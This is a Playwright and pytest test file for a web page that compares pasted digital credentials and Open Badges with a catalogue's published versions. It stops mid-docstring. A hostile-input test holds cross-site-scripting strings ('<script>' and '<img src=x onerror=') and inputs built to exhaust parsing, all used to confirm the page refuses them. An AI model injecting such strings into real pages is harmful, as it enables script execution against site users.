"""End-to-end tests of the "Check a credential" page (``check/``) in Chromium.

The credentials come from the built sample site's own published files
(:mod:`.check_fixtures`); the page reads them in the browser only. What is asserted is what an
employer sees: the verdict, the comparison rows, the status badge, the notice on the seal, and
a clear message (never a script run) for hostile input.
"""

from __future__ import annotations

import base64
import copy
import json
import random
import re
import zlib
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from babel import Locale
from playwright.sync_api import Page, expect

from credcat.changes import changes
from credcat.cli import main
from credcat.model import Credential, ordered_outcomes
from credcat.render.site.localise import ui_strings
from credcat.versions import credential_at

from . import check_fixtures as fx
from .conftest import REPO, NewContext, Site, site_of, small_site, words_split_across_lines
from .test_e2e import XSS_PROBE, assert_no_axe_violations, pdf_pages

CID = "sql-for-data-analysis"
VERSION = "1.1"  # the current version (1.1 added the French texts)
SAMPLES = REPO / "tests" / "fixtures" / "official" / "samples"
ROWS = (
    "title",
    "eqf",
    "credits",
    "workload",
    "outcomes",
    "assessment",
    "awarding",
    "issuer",
    "quality",
)


def open_check(page: Page, site: Site) -> None:
    page.goto(site.url("check/"))
    expect(page.locator("#credcat-check-form")).to_be_visible()


def paste(page: Page, text: str) -> None:
    """Paste a credential and press the button; wait for the verdict."""
    page.locator("#credcat-check-clear").click()
    expect(page.locator("#credcat-check-result")).to_be_hidden()
    # as a paste does: the whole text at once (typing 300 kB through fill is slow on 2 cores)
    box = page.locator("#credcat-check-text")
    box.evaluate("(el, text) => { el.value = text; el.dispatchEvent(new Event('input')); }", text)
    expect(box).not_to_have_value("")
    page.locator("#credcat-check-submit").click()
    expect(page.locator("#credcat-check-output[data-credcat-verdict]")).to_have_count(1)
    # no hover left on the button, and its colour transition over (Material's hover colours are
    # its own; axe would measure the button half-way)
    page.mouse.move(0, 0)
    page.wait_for_function("() => document.getAnimations().length === 0")


def verdict(page: Page) -> str:
    return page.locator("#credcat-check-output").get_attribute("data-credcat-verdict") or ""


def row_results(page: Page) -> dict[str, str]:
    return {
        field: page.locator(f'[data-credcat-row="{field}"]').get_attribute("data-credcat-result")
        or ""
        for field in ROWS
    }


def output_text(page: Page) -> str:
    return page.locator("#credcat-check-output").inner_text()


@pytest.fixture(scope="module")
def issued(sample_site: Site) -> dict[str, Any]:
    return fx.issued_edc(sample_site.root, CID, VERSION)


def test_empty_state_explains_and_says_the_seal_is_not_verified(page: Page, sample_site: Site):
    open_check(page, sample_site)
    expect(page.locator("h1")).to_have_text("Check a credential")
    seal = page.locator("#credcat-check-seal")
    expect(seal).to_contain_text("This page does not verify the seal")
    viewer = seal.locator("a")
    expect(viewer).to_have_text("official European Digital Credentials viewer")
    assert (viewer.get_attribute("href") or "").startswith("https://europa.eu/europass/")
    label = "Choose a credential file (JSON or JSON-LD, or a badge image: PNG or SVG)"
    expect(page.get_by_label(label)).to_be_visible()
    expect(page.locator("#credcat-check-result")).to_be_hidden()
    # the page pressed without input says what to do
    page.locator("#credcat-check-submit").click()
    expect(page.locator("#credcat-check-output")).to_contain_text("paste a credential first")


def test_linked_from_home_and_every_credential_page(page: Page, sample_site: Site):
    page.goto(sample_site.url(""))
    page.locator("article a", has_text="Check a credential you were shown").first.click()
    expect(page.locator("#credcat-check-form")).to_be_visible()
    for cid in sorted(sample_site.catalogue.credentials)[:3]:
        page.goto(sample_site.url(f"credentials/{cid}/"))
        link = page.locator(".credcat-check-link a")
        expect(link).to_have_attribute("href", "../../check/")


def test_an_issued_edc_matches_in_every_form(page: Page, sample_site: Site, issued: dict[str, Any]):
    forms = {
        "unsigned": (json.dumps(issued, indent=2), "European Digital Credential, unsigned"),
        "uploadable": (json.dumps(fx.uploadable(issued)), "in the EDC Issuer's upload form"),
        "jades": (json.dumps(fx.jades_json(issued)), "signed (JAdES/JWS, JSON serialisation)"),
        "compact": (fx.jws_compact(issued), "signed (JWS, compact serialisation)"),
        "vc2": (json.dumps(fx.vc2(issued)), "VC data model 2.0"),
    }
    open_check(page, sample_site)
    for name, (text, format_words) in forms.items():
        paste(page, text)
        assert verdict(page) == "match", (name, output_text(page))
        shown = output_text(page)
        matches = f"The credential matches what this catalogue published for version {VERSION}"
        assert matches in shown
        assert format_words in shown, name
        assert row_results(page) == dict.fromkeys(ROWS, "same"), name
        badge = page.locator("[data-credcat-status]")
        expect(badge).to_have_attribute("data-credcat-status", "current")
        expect(badge).to_have_text("Current version")
        title_row = page.locator('[data-credcat-row="title"]')
        expect(title_row).to_contain_text("SQL for Data Analysis")
        expect(page.locator('[data-credcat-row="eqf"]')).to_contain_text("EQF level 6")
    paste(page, json.dumps(issued))
    assert "VC data model 1.1" in output_text(page)
    version_link = page.get_by_role("link", name=f"The catalogue page of version {VERSION}")
    expect(version_link).to_have_attribute("href", f"../credentials/{CID}/{VERSION}/")


def numbered(page: Page, field: str, column: int) -> list[tuple[str, str]]:
    """The numbered items of a row's column (0: the credential's, 1: the catalogue's): each
    item's number and text."""
    items = page.locator(f'[data-credcat-row="{field}"] td').nth(column).locator("ol > li")
    return [
        (items.nth(n).get_attribute("value") or "", re.sub(r"\s+", " ", items.nth(n).inner_text()))
        for n in range(items.count())
    ]


@pytest.mark.parametrize("lang", ["", "de/"])
def test_an_open_badge_is_compared_on_what_its_criteria_state(
    page: Page, sample_site: Site, lang: str
):
    """Our own Open Badge states the outcomes and how each assessment is made (its type,
    supervision and identity check, the outcomes it proves, its description) in its criteria's
    narrative, which credcat writes: those are compared, the same, and numbered as the
    narrative numbers them. An Open Badge carries no workload, grading or quality assurance:
    those rows are "Not stated", never "Same", their cell says that a badge does not carry
    them, and one line says so once, naming them; the verdict is a match of everything a badge
    can state (the best result a badge can have, which it could never reach), in the page's
    language. The same for the badge's German edition, and for a badge that names the version
    only by its specification (its achievement an issuer's own id, its edition then found by
    its language)."""
    said = open_check_in(page, sample_site, lang)
    badge = fx.ob3_credential(sample_site.root, CID, VERSION)
    german = fx.with_edition(badge, sample_site.root, CID, VERSION, "de")
    issuers = json.loads(json.dumps(german))
    issuers["credentialSubject"]["achievement"]["id"] = (
        "urn:uuid:4f1c2a9e-1d0b-4a57-9c61-2b8e7d3f5a10"
    )
    cred = sample_site.catalogue.credentials[CID]
    for name, credential in (("English", badge), ("German", german), ("issuer's id", issuers)):
        paste(page, json.dumps(credential))
        assert verdict(page) == "match", (name, output_text(page))
        title = cred.title[lang.rstrip("/") or "en"]
        message = page.locator(".credcat-check__verdict")
        expect(message).to_have_text(
            str(said["verdict_match_badge"]).format(version=VERSION, title=title)
        )
        assert said["format_ob3"] in output_text(page)
        results = row_results(page)
        for field in ("title", "eqf", "credits", "outcomes", "awarding"):
            assert results[field] == "same", (name, field, output_text(page))
        # no grading in a badge: the assessments are the same in all a narrative states
        assert results["assessment"] == "same", (name, output_text(page))
        assert results["workload"] == results["quality"] == "unstated", name
        for field in ("workload", "quality"):
            row = page.locator(f'[data-credcat-row="{field}"]')
            expect(row.locator("td").first).to_have_text(str(said["not_in_badge"]))
            expect(row.locator("td").last).to_have_text(str(said["unstated"]))
            expect(row).not_to_contain_text(str(said["same"]))
        notes = page.locator('[data-credcat-row="assessment"] td').last.locator("li")
        expect(notes).to_have_count(0)
        edition = "de" if credential is not badge else "en"
        # the outcomes as the badge numbers them, in its language, beside the catalogue's
        claimed = numbered(page, "outcomes", 0)
        texts = [o.text[edition] for o in ordered_outcomes(cred)]
        assert claimed == [(str(n), t) for n, t in enumerate(texts, start=1)], claimed
        expect(page.locator(".credcat-check__unstated-fields")).to_have_count(0)
        lacks = page.locator(".credcat-check__badge-lacks")
        expect(lacks).to_have_count(1)
        for key in ("field_workload", "field_quality", "aspect_grading"):
            expect(lacks).to_contain_text(str(said[key]))
    assert_no_axe_violations(page, f"check page, an Open Badge ({lang or 'en'})")


def edit_narrative(credential: dict[str, Any], change: Any) -> dict[str, Any]:
    """A copy of an Open Badge whose narrative ``change`` (text → text) changed; it must."""
    before = fx.narrative(credential)
    after = change(before)
    assert after != before
    return fx.with_narrative(credential, after)


def test_an_open_badge_whose_narrative_was_changed_differs(page: Page, sample_site: Site):
    """A badge with an outcome added to its narrative, one left out, an assessment supervised
    otherwise, other outcomes proved or another description does not match, and the note says
    what; a narrative whose outcomes were numbered otherwise, consistently, still says the
    same; a narrative that does not read as credcat writes one states nothing."""
    badge = fx.ob3_credential(sample_site.root, CID, VERSION)
    cred = sample_site.catalogue.credentials[CID]
    exam = "Practical SQL exam in the computer lab"
    outcomes = [o.text["en"] for o in ordered_outcomes(cred)]
    open_check(page, sample_site)

    def check(changed: dict[str, Any]) -> dict[str, str]:
        paste(page, json.dumps(changed))
        return {
            field: page.locator(f'[data-credcat-row="{field}"]').get_attribute(
                "data-credcat-result"
            )
            or ""
            for field in ("outcomes", "assessment")
        }

    def note(field: str) -> Any:
        return page.locator(f'[data-credcat-row="{field}"] td').last

    added = edit_narrative(
        badge,
        lambda t: t.replace("\n\nAssessment:", "\n6. Administer any database.\n\nAssessment:"),
    )
    assert check(added)["outcomes"] == "differs"
    assert verdict(page) == "differences"
    expect(note("outcomes")).to_contain_text(
        "Not published by the catalogue: Administer any database."
    )
    assert numbered(page, "outcomes", 0)[-1] == ("6", "Administer any database.")

    left_out = edit_narrative(badge, lambda t: t.replace(f"\n5. {outcomes[4]}", ""))
    assert check(left_out)["outcomes"] == "differs"
    expect(note("outcomes")).to_contain_text(f"Not in the credential: {outcomes[4]}")

    online = edit_narrative(badge, lambda t: t.replace("supervised on site", "supervised online"))
    assert check(online) == {"outcomes": "same", "assessment": "differs"}
    assert verdict(page) == "differences"
    expect(note("assessment")).to_contain_text(
        f"Differs for {exam}: supervision and identity check"
    )
    assert "supervised online, with identity verification" in assessment_lines(page, 0)[0]
    assert "supervised on site, identity verified" in assessment_lines(page, 1)[0]

    def proves(t: str) -> str:
        return re.sub(r"proves outcomes [0-9, ]+\)", "proves outcomes 1, 2, 3, 4, 5)", t, count=1)

    assert check(edit_narrative(badge, proves))["assessment"] == "differs"
    expect(note("assessment")).to_contain_text(f"Differs for {exam}: learning outcomes it proves")

    described = edit_narrative(badge, lambda t: t.replace("):", "): Open book.", 1))
    assert check(described)["assessment"] == "differs"
    expect(note("assessment")).to_contain_text(f"Differs for {exam}: description")

    # outcomes 1 and 2 swapped, and the numbers the assessments prove with them: the same
    def swapped(t: str) -> str:
        first = f"1. {outcomes[0]}"
        t = t.replace(first, "@first@").replace(f"2. {outcomes[1]}", f"1. {outcomes[1]}")
        t = t.replace("@first@", f"2. {outcomes[0]}")

        def renumber(match: re.Match[str]) -> str:
            numbers = [{"1": "2", "2": "1"}.get(n, n) for n in match.group(1).split(", ")]
            return "proves outcomes " + ", ".join(sorted(numbers)) + ")"

        return re.sub(r"proves outcomes ([0-9, ]+)\)", renumber, t)

    assert check(edit_narrative(badge, swapped)) == {"outcomes": "same", "assessment": "same"}
    assert numbered(page, "outcomes", 0)[:2] == [("1", outcomes[1]), ("2", outcomes[0])]
    assert numbered(page, "outcomes", 1)[:2] == [("1", outcomes[0]), ("2", outcomes[1])]

    prose = fx.with_narrative(badge, "Completed all modules of the course with success.")
    assert check(prose) == {"outcomes": "unstated", "assessment": "unstated"}
    assert verdict(page) == "partial"

    # written with Windows line ends and trailing spaces: read the same
    windows = edit_narrative(badge, lambda t: t.replace(":\n", ":  \n").replace("\n", "\r\n"))
    assert check(windows) == {"outcomes": "same", "assessment": "same"}
    # hostile narratives (a megabyte line that starts an assessment over and over, and never
    # ends one) are read in linear time, as stating nothing
    for hostile in ("- **" + "a** (b) " * 120_000, "- **a** (" + "b):c" * 200_000):
        text = "Assessment:\n\n" + hostile
        assert check(fx.with_narrative(badge, text)) == {
            "outcomes": "unstated",
            "assessment": "unstated",
        }


def test_a_tampered_copy_shows_each_difference(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    open_check(page, sample_site)
    paste(page, json.dumps(fx.jades_json(fx.tampered(issued))))
    assert verdict(page) == "differences"
    assert f"differs from what this catalogue published for version {VERSION}" in output_text(page)
    results = row_results(page)
    assert results["title"] == results["eqf"] == "differs"
    assert results["credits"] == results["outcomes"] == results["awarding"] == "same"
    eqf = page.locator('[data-credcat-row="eqf"]')
    expect(eqf).to_contain_text("EQF level 7")
    expect(eqf).to_contain_text("Differs")
    expect(page.locator('[data-credcat-row="title"]')).to_contain_text(
        "SQL for Data Analysis (Advanced)"
    )
    assert_no_axe_violations(page, "check page with differences")


def test_a_changed_claim_title_differs(page: Page, sample_site: Site, issued: dict[str, Any]):
    """The claim's own title is the one a wallet shows the holder: a copy that changes only
    that title, not its specification's, does not match."""
    changed = json.loads(json.dumps(issued))
    claim = changed["credentialSubject"]["hasClaim"]
    assert claim["specifiedBy"]["title"]  # the specification's title stays as published
    claim["title"] = {"en": "Advanced Data Analysis with Python"}
    open_check(page, sample_site)
    paste(page, json.dumps(changed))
    assert verdict(page) == "differences"
    row = page.locator('[data-credcat-row="title"]')
    expect(row).to_have_attribute("data-credcat-result", "differs")
    expect(row).to_contain_text("Advanced Data Analysis with Python")


def test_a_changed_outcome_is_named(page: Page, sample_site: Site, issued: dict[str, Any]):
    changed = json.loads(json.dumps(issued))
    outcome = changed["credentialSubject"]["hasClaim"]["specifiedBy"]["learningOutcome"][0]
    replaced = outcome["title"]["en"]  # the first outcome the file states, whichever it is
    outcome["title"] = {"en": "Administer any database"}
    open_check(page, sample_site)
    paste(page, json.dumps(changed))
    row = page.locator('[data-credcat-row="outcomes"]')
    expect(row).to_have_attribute("data-credcat-result", "differs")
    expect(row).to_contain_text("Not published by the catalogue: Administer any database")
    expect(row).to_contain_text(f"Not in the credential: {replaced}")


def outcome_notes(page: Page) -> list[str]:
    """The notes under the outcomes row's result."""
    notes = page.locator('[data-credcat-row="outcomes"] td').last.locator("li")
    return [re.sub(r"\s+", " ", t) for t in notes.all_inner_texts()]


def a_few_words_changed(text: str) -> str:
    """``text`` with its last two words replaced by one (most of its words kept)."""
    return text.rsplit(" ", 2)[0] + " " + "".join(reversed(text.split()[-1].strip(".")))


@pytest.mark.parametrize("lang", ["de", "en"])
def test_an_outcome_reworded_in_one_language_differs(
    page: Page, sample_site: Site, issued: dict[str, Any], lang: str
):
    """Every language an outcome states is compared, as for titles: a copy whose text in one
    language had a few words changed does not match, and the note says in which language it
    differs and shows both texts, the credential's and the catalogue's, never "not published"
    and "not in the credential"."""
    said = open_check_in(page, sample_site, "")
    changed = json.loads(json.dumps(issued))
    outcome = changed["credentialSubject"]["hasClaim"]["specifiedBy"]["learningOutcome"][0]
    assert {"en", "de"} <= set(outcome["title"])
    published = outcome["title"][lang]
    outcome["title"][lang] = a_few_words_changed(published)
    paste(page, json.dumps(changed))
    assert verdict(page) == "differences"
    row = page.locator('[data-credcat-row="outcomes"]')
    expect(row).to_have_attribute("data-credcat-result", "differs")
    language = Locale.parse("en").languages[lang]
    expected = str(said["outcome_reworded"]).format(
        languages=language, text=outcome["title"][lang], published=published
    )
    assert outcome_notes(page) == [expected]


@pytest.mark.parametrize("lang", ["en", "de"])
def test_an_outcome_in_other_words_is_another_outcome(
    page: Page, sample_site: Site, issued: dict[str, Any], lang: str
):
    """The rule (check.js, pairOutcomes): a text whose words are mostly others is another
    outcome, even where its other language is still the catalogue's: "Can build a rocket
    engine from scratch" in place of an outcome's English (or German) text is one outcome not
    published by the catalogue and the catalogue's one not in the credential, each named by its
    text in the language that differs, never "worded differently"."""
    said = open_check_in(page, sample_site, "")
    changed = json.loads(json.dumps(issued))
    outcome = changed["credentialSubject"]["hasClaim"]["specifiedBy"]["learningOutcome"][0]
    published = outcome["title"][lang]
    outcome["title"][lang] = "Can build a rocket engine from scratch."
    paste(page, json.dumps(changed))
    assert verdict(page) == "differences"
    assert sorted(outcome_notes(page)) == sorted(
        [
            str(said["outcome_extra"]).format(text=outcome["title"][lang]),
            str(said["outcome_missing"]).format(text=published),
        ]
    )
    # each note's text in its language (a German text is marked so on an English page)
    notes = page.locator('[data-credcat-row="outcomes"] td').last.locator("li span[lang]")
    expect(notes).to_have_count(0 if lang == "en" else 2)


def test_an_outcome_in_a_language_the_catalogue_lacks_is_said_so(page: Page, sample_site: Site):
    """Version 1.2's outcomes labelled 1.1 (1.2 added French): each is paired (the same in
    English and German), and its French text is said to be only in the credential."""
    said = open_check_in(page, sample_site, "")
    cid = "data-analysis-python"
    credential = fx.with_version(fx.issued_edc(sample_site.root, cid, "1.2"), "1.1")
    paste(page, json.dumps(credential))
    path = sample_site.root / "credentials" / cid / "1.1" / "elm.jsonld"
    older = json.loads(path.read_text(encoding="utf-8"))["learningOutcome"]
    outcomes = credential["credentialSubject"]["hasClaim"]["specifiedBy"]["learningOutcome"]
    language = Locale.parse("en").languages["fr"]
    expected = [
        str(said["outcome_lacked"]).format(languages=language, text=o["title"]["fr"])
        for o in outcomes
        if any(o["title"]["en"] == p["title"]["en"] for p in older)
    ]
    assert len(expected) == len(older)
    assert sorted(outcome_notes(page)) == sorted(expected)


def test_credentials_not_from_this_catalogue(page: Page, sample_site: Site, issued: dict[str, Any]):
    open_check(page, sample_site)
    for sample in ("Sample-MC-Annex1-signed.jsonld", "Sample-MC-Annex1-unsigned-uploadable.json"):
        paste(page, (SAMPLES / sample).read_text(encoding="utf-8"))
        assert verdict(page) == "not-ours", sample
        assert "This credential is not from this catalogue" in output_text(page)
        assert "https://credentials.digital-skills-alliance.eu/" in output_text(page)
    paste(page, json.dumps(fx.with_version(issued, "9.9")))
    assert verdict(page) == "no-version"
    assert "This catalogue has no version 9.9 of “SQL for Data Analysis”." in output_text(page)
    unknown = json.dumps(issued).replace(f"/credentials/{CID}/", "/credentials/no-such-thing/")
    paste(page, unknown)
    assert verdict(page) == "no-credential"
    assert "This catalogue has no credential “no-such-thing”." in output_text(page)
    assert_no_axe_violations(page, "check page, not from this catalogue")


def unwrapped(data: dict[str, Any]) -> dict[str, Any]:
    """The credential of a file: a signed one's payload, an upload form's credential."""
    if "payload" in data:
        data = json.loads(data["payload"])
    credential: dict[str, Any] = data.get("credential", data)
    return credential


def first(value: Any) -> Any:
    return value[0] if isinstance(value, list) else value


def test_a_credential_of_another_catalogue_says_what_it_states(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    """ "Not from this catalogue" says what the file states of itself (compared with nothing):
    the Commission's samples' title, issuer (name and id) and issue date, and a link to the
    European Digital Credentials viewer; a foreign Open Badge's, with a link to an Open Badges
    verifier. A credential naming this catalogue's address but with http:// (or another host,
    the same path) is told so."""
    said = open_check_in(page, sample_site, "")
    config = json.loads(page.locator("#credcat-check-config").text_content() or "{}")
    base = config["base_uri"]
    foreign = page.locator(".credcat-check__foreign")
    near = page.locator(".credcat-check__near")

    def day(value: str) -> str:  # the date as written, as the page shows it
        when = datetime.fromisoformat(value[:10])
        return f"{when.day} {when:%B %Y}"

    def states(title: str, name: str, oid: str, issued_on: str) -> None:
        issuer = str(said["org_with_id"]).format(name=name, id=oid)
        for line in (
            str(said["foreign_title"]).format(title=title),
            str(said["foreign_issuer"]).format(issuer=issuer),
            str(said["dates_issued"]).format(date=day(issued_on)),
        ):
            expect(foreign).to_contain_text(line)

    for sample in ("Sample-MC-Annex1-signed.jsonld", "Sample-MC-Annex1-unsigned-uploadable.json"):
        text = (SAMPLES / sample).read_text(encoding="utf-8")
        paste(page, text)
        assert verdict(page) == "not-ours", sample
        credential = unwrapped(json.loads(text))
        spec = first(first(credential["credentialSubject"]["hasClaim"])["specifiedBy"])
        issuer = credential["issuer"]
        states(
            spec["title"]["en"], issuer["legalName"]["en"], issuer["id"], credential["validFrom"]
        )
        viewer = foreign.get_by_role("link", name=str(said["link_edc_viewer"]))
        expect(viewer).to_have_attribute("href", config["viewer"])
        expect(near).to_have_count(0)
    # an Open Badge of another catalogue (ours, moved to another address and path)
    badge = fx.ob3_credential(sample_site.root, CID, VERSION)
    moved = json.loads(
        json.dumps(badge).replace(base + "credentials/", "https://badges.example.org/achievements/")
    )
    paste(page, json.dumps(moved))
    assert verdict(page) == "not-ours", output_text(page)
    achievement = moved["credentialSubject"]["achievement"]
    states(achievement["name"], moved["issuer"]["name"], moved["issuer"]["id"], moved["validFrom"])
    verifier = foreign.get_by_role("link", name=str(said["link_ob3_verifier"]))
    expect(verifier).to_have_attribute("href", config["verifier"])
    expect(near).to_have_count(0)
    # this catalogue's address with http://, or at another host
    spec_iri = issued["credentialSubject"]["hasClaim"]["specifiedBy"]["id"]
    scheme, host = base.split("://", 1)[0], base.split("/")[2]
    for kind, other, named, ours in (
        ("scheme", base.replace(scheme + "://", "http://", 1), "http://", scheme + "://"),
        ("host", base.replace(host, "credentials.example.org", 1), "credentials.example.org", host),
    ):
        assert other != base
        paste(page, json.dumps(issued).replace(base, other))
        assert verdict(page) == "not-ours", output_text(page)
        expect(near).to_have_attribute("data-credcat-near", kind)
        expect(near).to_have_text(
            str(said[f"near_{kind}"]).format(
                iri=spec_iri.replace(base, other), base=base, named=named, ours=ours
            )
        )
    assert_no_axe_violations(page, "check page, a credential of another catalogue")


@pytest.mark.parametrize("lang", ["", "de/"])
def test_an_earlier_version_is_named_an_earlier_version(page: Page, sample_site: Site, lang: str):
    """Versions 1.0 and 1.1 of an active credential are earlier versions, not "Superseded"
    (which says that another credential replaced it): the badge says "Earlier version", the
    status names the current version and links it, and says whether the current version has
    other outcomes or is assessed otherwise, as their files tell (1.2 added French texts
    alone: the same; 1.0 had an outcome less and assessments of its own), as the version pages'
    lists of what changed say."""
    said = open_check_in(page, sample_site, lang)
    cid = "data-analysis-python"
    cat = sample_site.catalogue
    current = cat.credentials[cid]
    assert (current.status, current.version) == ("active", "1.2")
    issued = fx.issued_edc(sample_site.root, cid, "1.1")
    for version, credential in (("1.1", issued), ("1.0", fx.with_version(issued, "1.0"))):
        paste(page, json.dumps(credential))
        assert verdict(page) == ("match" if version == "1.1" else "differences"), output_text(page)
        badge = page.locator("[data-credcat-status]")
        expect(badge).to_have_attribute("data-credcat-status", "earlier")
        expect(badge).to_have_text(str(said["badge_earlier"]))
        status = page.locator(".credcat-check__status")
        expect(status).not_to_contain_text(
            str(ui_strings(lang.rstrip("/") or "en")["status"]["superseded"])
        )
        expect(status).to_contain_text(
            str(said["status_earlier"]).format(version=version, current=current.version)
        )
        fields = {c.field for c in changes(credential_at(cat, cid, version), current)}
        since = {
            (False, False): "since_same",
            (True, False): "since_outcomes",
            (False, True): "since_assessment",
            (True, True): "since_both",
        }["outcomes" in fields, "assessments" in fields]
        assert since == ("since_same" if version == "1.1" else "since_both")
        expect(status).to_contain_text(str(said[since]).format(current=current.version))
        link = page.get_by_role("link", name=str(said["link_current"]).format(version="1.2"))
        assert link.evaluate("a => a.href") == sample_site.url(f"{lang}credentials/{cid}/")


def test_an_earlier_version_lists_what_changed_since(page: Page, sample_site: Site):
    """A credential of version 1.0 of a credential whose current version is 1.2 is told more
    than the kinds of change: under "Version 1.2 has other learning outcomes and is assessed
    otherwise" each outcome added, removed or reworded and each assessment added, removed or
    changed since is listed, as the version pages' lists of what changed (credcat.changes)
    name them, and each later version's "What changed" section is linked."""
    said = open_check_in(page, sample_site, "")
    cid = "data-analysis-python"
    cat = sample_site.catalogue
    current = cat.credentials[cid]
    older = "1.0"
    paste(page, json.dumps(fx.issued_edc(sample_site.root, cid, older)))
    assert verdict(page) == "match", output_text(page)
    found = changes(credential_at(cat, cid, older), current)
    since = page.locator(".credcat-check__status .credcat-check__since > li")
    shown = [re.sub(r"\s+", " ", t) for t in since.all_inner_texts()]
    outcome_keys = ("outcome_added", "outcome_removed", "outcome_reworded")
    expected = [
        str(said[f"since_{c.key}"]).format(text=c.args["text"]["en"])  # type: ignore[index]
        for c in found
        if c.key in outcome_keys
    ]
    assert expected, "the sample's version 1.0 has outcomes that changed"
    assert [t for t in shown if t not in expected and "Outcome" in t] == []
    assert all(t in shown for t in expected), (expected, shown)
    # each assessment the version pages say changed is listed as changed, and no other
    changed_titles = set()
    for c in found:
        if c.field == "assessments":
            for key in ("title", "new"):
                if isinstance(c.args.get(key), dict):
                    changed_titles.add(c.args[key]["en"])  # type: ignore[index]
    assert changed_titles
    prefix = str(said["since_assessment_changed"]).split("{title}")[0]
    listed = [t for t in shown if t.startswith(prefix)]
    assert len(listed) == len(changed_titles), (listed, changed_titles)
    for title in changed_titles:
        assert any(title in t for t in listed), (title, listed)
    for assessment in current.assessments:
        if assessment.title and assessment.title["en"] not in changed_titles:
            assert not any(assessment.title["en"] in t for t in listed), listed
    # the renamed one is named as the credential names it, and as it is named now
    renamed = [c for c in found if c.key == "assessment_title"]
    for c in renamed:
        old, new = c.args["old"]["en"], c.args["new"]["en"]  # type: ignore[index]
        assert any(f"{old} → {new}" in t for t in listed), listed
    # what changed in each later version, on its page
    index = json.loads((sample_site.root / "catalogue.json").read_text(encoding="utf-8"))
    entry = next(e for e in index["credentials"] if e["i"] == cid)
    versions = entry["vs"]
    later = versions[versions.index(older) + 1 : versions.index(entry["v"]) + 1]
    assert later
    for version in later:
        link = page.get_by_role("link", name=str(said["link_what_changed"]).format(version=version))
        href = link.evaluate("a => a.href")
        assert href == sample_site.url(f"credentials/{cid}/{version}/#what-changed")
        target = sample_site.root / "credentials" / cid / version / "index.html"
        assert 'id="what-changed"' in target.read_text(encoding="utf-8")
    # a version the same in outcomes and assessment lists nothing
    paste(page, json.dumps(fx.issued_edc(sample_site.root, cid, "1.1")))
    expect(page.locator(".credcat-check__since")).to_have_count(0)
    assert_no_axe_violations(page, "check page, an earlier version")


@pytest.mark.parametrize("cid", ["digital-inclusion-coaching", "research-data-management"])
def test_superseded_and_retired_credentials(page: Page, sample_site: Site, cid: str):
    cred = sample_site.catalogue.credentials[cid]
    open_check(page, sample_site)
    paste(page, json.dumps(fx.issued_edc(sample_site.root, cid, cred.version)))
    assert verdict(page) == "match", output_text(page)
    badge = page.locator("[data-credcat-status]")
    expect(badge).to_have_attribute("data-credcat-status", cred.status)
    # "Superseded" is a credential replaced by another, as its own pages say
    expect(badge).to_have_text(str(ui_strings("en")["status"][cred.status]))
    if cred.status == "superseded":
        assert cred.superseded_by
        expect(page.get_by_role("link", name="The credential that replaces it")).to_have_attribute(
            "href", f"../credentials/{cred.superseded_by}/"
        )
    else:
        assert "This credential has been retired" in output_text(page)


def test_hostile_input_gets_a_clear_message_and_never_runs(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    open_check(page, sample_site)
    page.locator("#credcat-check-clear").click()
    page.set_input_files(
        "#credcat-check-file",
        files=[{"name": "huge.json", "mimeType": "application/json", "buffer": fx.huge()}],
    )
    expect(page.locator("#credcat-check-output")).to_have_attribute("data-credcat-verdict", "error")
    assert "larger than 5 MB" in output_text(page)
    page.set_input_files("#credcat-check-file", files=[])

    cases = {
        fx.deeply_nested(): "nested more than 64 levels deep",
        '{"credentialSubject": {"hasClaim": [': "neither valid JSON nor a signed credential",
        "eyJhbGciOiJub25lIn0.bm90IGpzb24.c2ln": "could not be decoded",
        '{"type": "Something else"}': "not a credential this page reads",
        "<script>window.__xss=1</script>": "neither valid JSON nor a signed credential",
    }
    for text, words in cases.items():
        paste(page, text)
        assert verdict(page) == "error", words
        assert "The credential could not be read" in output_text(page)
        assert words in output_text(page)
    assert_no_axe_violations(page, "check page with an error")

    hostile = fx.with_payloads(issued)
    for text in (json.dumps(hostile), fx.jws_compact(hostile)):
        paste(page, text)
        assert verdict(page) == "differences"
        assert "<img src=x onerror=" in output_text(page)  # shown as text
        page.locator("#credcat-check-output").hover()
        result = page.evaluate(XSS_PROBE)
        assert not result["fired"] and not result["bad"], result


def test_a_credential_of_many_words_or_languages_is_read_in_linear_time(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    """A file within the 5 MB limit whose outcome is 520,000 different words, its title given
    in 100 languages: the page compares it and says what differs. Its words and titles were
    made distinct by a search through all of them for each (quadratic: 40,000 words took 6 s,
    these would have held the page for most of an hour). A text given in more than 100
    languages is refused with a clear message (215,000 titles took a minute to lay out)."""
    said = ui_strings("en")["check"]
    hostile = json.loads(json.dumps(issued))
    claim = hostile["credentialSubject"]["hasClaim"]
    claim = claim[0] if isinstance(claim, list) else claim
    claim["title"] = {f"x{i}": f"title {i}" for i in range(100)}
    outcome = next(
        node["learningOutcome"][0]
        for node in _nodes(hostile)
        if isinstance(node.get("learningOutcome"), list)
    )
    outcome["title"] = {"en": " ".join(f"w{i}" for i in range(520_000))}
    text = json.dumps(hostile)
    assert 4_000_000 < len(text) < 5 * 1024 * 1024
    open_check(page, sample_site)
    box = page.locator("#credcat-check-text")
    box.evaluate("(el, text) => { el.value = text; el.dispatchEvent(new Event('input')); }", text)
    page.locator("#credcat-check-submit").click()
    # a minute at most on a busy machine; the quadratic walk took some forty
    expect(page.locator("#credcat-check-output")).to_have_attribute(
        "data-credcat-verdict", "differences", timeout=60_000
    )
    for row in ("title", "outcomes"):
        expect(page.locator(f'[data-credcat-row="{row}"]')).to_have_attribute(
            "data-credcat-result", "differs"
        )

    too_many = str(said["error_too_many_languages"]).format(n=100)
    for where in ("title", "outcome", "issuer"):
        many = json.loads(json.dumps(issued))
        claim = many["credentialSubject"]["hasClaim"]
        claim = claim[0] if isinstance(claim, list) else claim
        target = {
            "title": claim,
            "outcome": next(
                node["learningOutcome"][0]
                for node in _nodes(many)
                if isinstance(node.get("learningOutcome"), list)
            ),
            "issuer": many["issuer"],
        }[where]
        key = "legalName" if where == "issuer" else "title"
        target[key] = {f"x{i}": f"text {i}" for i in range(101)}
        paste(page, json.dumps(many))
        assert verdict(page) == "error", (where, output_text(page))
        expect(page.locator(".credcat-check__message")).to_have_text(too_many)


def test_a_credential_listing_absurdly_many_of_anything_is_refused(
    page: Page, sample_site: Site, issued: dict[str, Any]
):
    """A credential with a list of more than 1,000 entries (awarding bodies, outcomes, an Open
